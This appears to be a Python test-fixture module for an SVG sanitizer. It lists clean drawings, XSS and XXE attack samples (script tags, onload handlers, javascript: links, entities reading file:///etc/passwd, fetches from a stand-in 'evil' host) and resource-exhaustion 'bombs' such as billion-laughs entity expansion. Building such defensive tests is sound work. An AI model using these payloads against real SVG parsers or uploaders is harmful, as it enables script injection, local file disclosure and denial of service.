"""Drawings: harmless ones, attacks that leave a rectangle `kept`, and bombs.

The attacks are those of OWASP's and of html5sec.org's lists, in our own words.
"""

SVG = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
KEPT = '<rect id="kept" width="9" height="9"/>'


def drawing(body: str, attributes: str = "") -> str:
    return f"<svg {' '.join(filter(None, (SVG, attributes)))}>{body}</svg>"


CLEAN = {
    "shapes": drawing('<rect width="100" height="80" fill="#2a6"/><circle r="5"/>'),
    "gradients, text and a style": drawing(
        '<style type="text/css"><![CDATA[ .a > b { fill: url(#g) } ]]></style>'
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
        '<text class="a" style="fill:url(#g);font-family:\'A B\'">a &amp; b</text>'
    ),
    "a symbol used twice": drawing(
        f'<symbol id="s">{KEPT}</symbol><use href="#s"/><use xlink:href="#s"/>', XLINK
    ),
    "a picture within": drawing('<image href="data:image/png;base64,iVBORw0KGgo="/>'),
    "declarations and comments": (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- <script> -->\n'
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + drawing(KEPT)
    ),
    "an editor's notes": drawing(
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/x" '
        'pagecolor="#fff"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-'
        'ns#"><rdf:a rdf:about=""/></rdf:RDF></metadata>'
    ),
    "an animation": drawing('<circle><animate attributeName="r" values="1;2" dur="1s"/></circle>'),
    "a prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg">{KEPT.replace("<", "<s:")}</s:svg>',
    "a map with dashed borders": drawing(
        f'<path d="M0 0{"L9 9" * 10_000}" stroke-dasharray="4 2"/>', 'width="900" height="600"'
    ),
    "shadows": drawing(
        '<filter id="f"><feGaussianBlur stdDeviation="2"/><feOffset dy="2"/><feMerge/></filter>'
        + '<rect filter="url(#f)"/>' * 50,
        'width="300" height="300"',
    ),
    "a page of text": drawing(f"<text>{'a line of words ' * 20}</text>" * 60),
    "a long note": drawing(f"<desc>{'a' * 20_000}</desc>"),
    "a filter": drawing(
        '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><g filter="url(#f)"/>'
    ),
}

_ATTACKS = {
    "script": drawing(f"<script>alert(1)</script>{KEPT}"),
    "script of another prefix": drawing(
        f'<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>{KEPT}'
    ),
    "script of XHTML": drawing(
        f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>{KEPT}'
    ),
    "script in metadata": drawing(
        f'<metadata><h:script xmlns:h="http://www.w3.org/1999/xhtml">1</h:script></metadata>{KEPT}'
    ),
    "script by an entity": (
        f'<!DOCTYPE svg [<!ENTITY s "&#60;script>alert(1)&#60;/script>">]>{drawing("&s;" + KEPT)}'
    ),
    "script from elsewhere": drawing(f'<script href="//evil/a.js"/>{KEPT}'),
    "event of the root": drawing(KEPT, 'onload="alert(1)"'),
    "event in capitals": drawing(KEPT, 'ONLOAD="alert(1)"'),
    "event of a shape": drawing(f'<g onclick="alert(1)">{KEPT}</g>'),
    "event by a default attribute": (
        '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + drawing(KEPT)
    ),
    "event of XML events": drawing(
        f'<g ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">{KEPT}</g>'
        '<handler type="text/ecmascript">alert(1)</handler>'
    ),
    "document within": drawing(
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'
        f"</foreignObject>{KEPT}"
    ),
    "link": drawing(f'<a href="javascript:alert(1)"><text>click</text></a>{KEPT}'),
    "link by xlink": drawing(f'<a xlink:href="//evil"><text>a</text></a>{KEPT}', XLINK),
    "link by another prefix": drawing(
        f'<image x:href="//evil/a.png" xmlns:x="http://www.w3.org/1999/xlink"/>{KEPT}'
    ),
    "base": drawing(KEPT, 'xml:base="//evil/"'),
    "use of another file": drawing(f'<use href="//evil/a.svg#a"/>{KEPT}'),
    "use of a drawing within": drawing(
        f'<use href="data:image/svg+xml;base64,ZXZpbA==#evil"/>{KEPT}'
    ),
    "picture from elsewhere": drawing(f'<image href="http://evil/a.png"/>{KEPT}'),
    "picture of the machine": drawing(f'<image href="file:///etc/passwd"/>{KEPT}'),
    "drawing as a picture": drawing(f'<image href="data:image/svg+xml,evil"/>{KEPT}'),
    "filter's picture": drawing(f'<filter><feImage href="//evil/a"/></filter>{KEPT}'),
    "address set by animation": drawing(
        f'<g><set attributeName="xlink:href" to="javascript:alert(1)"/>{KEPT}</g>'
    ),
    "event set by animation": drawing(
        f'<g><animate attributeName="onclick" values="alert(1)"/>{KEPT}</g>'
    ),
    "fill from elsewhere": drawing(f'<g fill="url(http://evil/#a)">{KEPT}</g>'),
    "fill spelled by escapes": drawing(f'<g fill="u\\72l(http://evil/#a)">{KEPT}</g>'),
    "fill animated from elsewhere": drawing(
        f'<g><animate attributeName="fill" values="url(http://evil/#a)"/>{KEPT}</g>'
    ),
    "style attribute": drawing(f'<g style="fill:url(//evil)">{KEPT}</g>'),
    "style that imports": drawing(f'<style>@import "//evil";</style>{KEPT}'),
    "style that imports by escapes": drawing(f"<style>@\\69mport '//evil';</style>{KEPT}"),
    "style with a font": drawing(
        f"<style>@font-face {{ font-family: a; src: url(//evil) }}</style>{KEPT}"
    ),
    "style with an end within": drawing(
        f"<style><![CDATA[</style><script>alert(1)</script>]]></style>{KEPT}"
    ),
    "stylesheet": '<?xml-stylesheet href="//evil/a.css"?>' + drawing(KEPT),
    "type from elsewhere": '<!DOCTYPE svg SYSTEM "http://evil/a.dtd">' + drawing(KEPT),
    "entity of the machine": (
        '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        + drawing(f"<text>&f;</text>{KEPT}")
    ),
    "entity from elsewhere": (
        '<!DOCTYPE svg [<!ENTITY f PUBLIC "a" "http://evil/">]>' + drawing(f"&f;{KEPT}")
    ),
}
ATTACKS = {name: attack.encode() for name, attack in _ATTACKS.items()}
ATTACKS["script in UTF-16"] = drawing(f"<script>alert(1)</script>{KEPT}").encode("utf-16")

_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_USES = "".join(f'<g id="u{n}">' + f'<use href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
_BOMBS = {
    "entities of entities": f'<!DOCTYPE svg [<!ENTITY a0 "a">{_LAUGHS}]>' + drawing("&a9;"),
    "a long entity, often": (
        f'<!DOCTYPE svg [<!ENTITY a "{"a" * 100_000}">]>' + drawing("&a;" * 10_000)
    ),
    "a short entity, very often": (
        f'<!DOCTYPE svg [<!ENTITY a "{"a" * 250}">]>' + drawing("&a;" * 100_000)
    ),
    "entities in attributes": (
        f'<!DOCTYPE svg [<!ENTITY a "{"a" * 250}">]>' + drawing(f'<g id="{"&a;" * 50_000}"/>')
    ),
    "parameter entities": '<!DOCTYPE svg [<!ENTITY % a "b">%a;]>' + drawing(KEPT),
    "copies of copies": drawing(f'<g id="u0"><rect/></g>{_USES}<use href="#u9"/>'),
    "copies one in the other": drawing(
        '<g id="u0"/>'
        + "".join(f'<g id="u{n}"><use href="#u{n - 1}"/></g>' for n in range(1, 500))
        + '<use href="#u499"/>'
    ),
    "elements without number": drawing("<g/>" * 260_000),
    "elements without bottom": drawing("<g>" * 5_000 + "</g>" * 5_000),
    "blurs of blurs": drawing(
        '<filter id="f">' + "<feGaussianBlur stdDeviation='9'/>" * 20 + "</filter>"
        '<rect filter="url(#f)"/>',
        'width="3000" height="3000"',
    ),
    "noise of ten octaves": drawing(
        '<filter id="f">' + "<feTurbulence numOctaves='10'/>" * 10 + "</filter>"
        "<style>rect { filter: url(#f) }</style><rect/>",
        'width="3000" height="3000"',
    ),
    "a matrix of 50 x 50": drawing(
        '<filter id="f"><feConvolveMatrix order="50"/></filter><g style="filter:url(#f)"/>',
        'width="3000" height="3000"',
    ),
    "a widening without end": drawing(
        '<filter id="f"><feMorphology radius="500"/></filter><g filter="url(#f)"/>',
        'width="300" height="300"',
    ),
    "dashes without end": drawing(f'<path d="M0 0{"L9 9" * 80_000}" stroke-dasharray="0.01"/>'),
    "a text without end": drawing(f"<text>{'a' * 6_000}</text>"),
    "texts without end": drawing(f"<text><tspan>{'a' * 1_000}</tspan></text>" * 30),
    "megabytes": drawing(f"<!-- {'a' * 11 * 1024 * 1024} -->"),
}
BOMBS = {name: bomb.encode() for name, bomb in _BOMBS.items()}
